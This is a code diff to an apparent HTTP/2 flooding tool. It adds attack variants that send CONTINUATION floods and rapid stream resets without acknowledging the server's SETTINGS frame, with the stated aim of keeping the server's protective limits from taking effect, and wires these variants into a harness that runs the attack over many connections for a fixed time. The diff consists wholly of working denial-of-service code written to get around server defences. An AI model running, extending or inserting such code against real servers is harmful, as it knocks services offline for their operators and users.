@@ -94,7 +94,18 @@ def empty_data(wire: Wire) -> Iterator[bytes]:
         yield many
 
 
-FORMS: dict[str, Form] = {
+def unsettled(wire: Wire) -> Iterator[bytes]:
+    """Flood with CONTINUATION without acknowledging the server's settings, so that its limits do not bind yet."""
+    return continuation(wire)
+
+
+def unsettled_reset(wire: Wire) -> Iterator[bytes]:
+    """Open and cancel streams without acknowledging the server's settings."""
+    return rapid_reset(wire)
+
+
+UNSETTLED: dict[str, Form] = {form.__name__: form for form in (unsettled, unsettled_reset)}
+SETTLED: dict[str, Form] = {
     form.__name__: form
     for form in (rapid_reset, rapid_reset_late, continuation, continuation_empty, ping, settings, empty_data)
 }
@@ -105,6 +116,7 @@ class Attack:
 
     def __init__(self, caller: Caller, form: Form, *, limit: int) -> None:
         self._caller, self._form = caller, form
+        self._settles = form not in UNSETTLED.values()
         self._left = limit
         self.count = {"connections": 0, "refused": 0, "ended": 0, "bytes": 0}
 
@@ -115,6 +127,8 @@ class Attack:
             self.count["connections"] += 1
             try:
                 wire = Wire(self._caller)
+                if self._settles:
+                    wire.settle()
             except OSError:
                 self.count["refused"] += 1
                 yield
@@ -141,7 +155,7 @@ class Attack:
 def main() -> None:
     """Attack until the time is over."""
     order = json.loads(sys.stdin.readline())
-    attack = Attack(Caller(**order["caller"]), FORMS[order["name"]], limit=order["limit"])
+    attack = Attack(Caller(**order["caller"]), (SETTLED | UNSETTLED)[order["name"]], limit=order["limit"])
     running = [attack.connection() for _ in range(order["connections"])]
     end = time.monotonic() + order["seconds"]
     while running and time.monotonic() < end:
